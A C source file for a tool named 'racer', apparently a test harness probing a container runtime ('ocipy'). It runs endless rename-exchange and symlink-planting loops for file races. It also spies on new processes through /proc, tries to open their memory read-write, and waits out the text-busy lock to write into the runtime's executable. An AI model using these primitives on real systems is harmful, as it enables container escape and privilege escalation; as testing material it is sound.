/* The attacker's hands: as fast as they get, without an interpreter in between. */
#include <errno.h>
#include <fcntl.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/prctl.h>
#include <sys/stat.h>
#include <unistd.h>

static int usage(void)
{
    fputs("racer exchange ONE OTHER | plant TARGET NAME | spy\n", stderr);
    return 2;
}

/* Two names change places, for ever. */
_Noreturn static void exchange(const char *one, const char *other)
{
    for (;;)
        if (renameat2(AT_FDCWD, one, AT_FDCWD, other, RENAME_EXCHANGE) < 0 && errno != ENOENT)
            exit(1);
}

/* About as long as the other side takes from one system call to the next. */
static void linger(void)
{
    for (int i = 0; i < 150; i++)
        getppid();
}

/* Now there is nothing of this name, now a symlink, which takes the place of what was made meanwhile. */
_Noreturn static void plant(const char *target, const char *name)
{
    char temporary[4096];

    snprintf(temporary, sizeof temporary, "%s.planted", name);
    for (;;) {
        if (symlink(target, temporary) < 0 && errno != EEXIST)
            exit(1);
        rename(temporary, name);
        linger();
        unlink(name);
        linger();
    }
}

static void say(const char *what, int pid, const char *target)
{
    printf("%s %d %s\n", what, pid, target);
    fflush(stdout);
}

/* What is executed can't be written; by a descriptor it can be as soon as it is executed no more. */
static void overwrite(int fd, int pid)
{
    char path[64];
    int writable;

    snprintf(path, sizeof path, "/proc/self/fd/%d", fd);
    for (int tries = 0; tries < 2000; tries++) {
        writable = open(path, O_WRONLY | O_APPEND);
        if (writable >= 0) {
            if (write(writable, "overwritten", 11) == 11)
                say("wrote", pid, "its program");
            close(writable);
            return;
        }
        if (errno != ETXTBSY)
            return;
        usleep(500);
    }
}

static void look(int pid, char *seen, size_t size)
{
    char path[64], target[512];
    ssize_t length;

    for (int fd = 0; fd < 20; fd++) {
        snprintf(path, sizeof path, "/proc/%d/fd/%d", pid, fd);
        length = readlink(path, target, sizeof target - 1);
        if (length > 0) {
            target[length] = 0;
            say("fd", pid, target);
        }
    }
    snprintf(path, sizeof path, "/proc/%d/exe", pid);
    length = readlink(path, target, sizeof target - 1);
    target[length > 0 ? length : 0] = 0;
    if (length > 0 && strcmp(target, seen)) {
        snprintf(seen, size, "%s", target);
        say("exe", pid, target);
        if (strstr(target, "ocipy")) {
            int fd = open(path, O_RDONLY | O_CLOEXEC);

            if (fd >= 0) {
                overwrite(fd, pid);
                close(fd);
            }
        }
    }
    snprintf(path, sizeof path, "/proc/%d/mem", pid);
    length = open(path, O_RDWR);
    if (length >= 0) {
        say("mem", pid, target);
        close((int)length);
    }
}

/* Looks into every process that comes into being after this one, and writes to its program if it can.  The
 * numbers are those of a pid namespace, given one after the other. */
_Noreturn static void spy(void)
{
    say("ready", getpid(), "");
    for (int pid = getpid() + 1;; pid++) {
        char seen[512] = "";

        while (kill(pid, 0) < 0)
            usleep(50);
        do
            look(pid, seen, sizeof seen);
        while (kill(pid, 0) == 0);
        say("gone", pid, "");
    }
}

int main(int argc, char **argv)
{
    if (argc > 1 && !strcmp(argv[1], "spy"))
        spy();
    prctl(PR_SET_PDEATHSIG, SIGKILL);
    if (argc == 4 && !strcmp(argv[1], "exchange"))
        exchange(argv[2], argv[3]);
    if (argc == 4 && !strcmp(argv[1], "plant"))
        plant(argv[2], argv[3]);
    return usage();
}
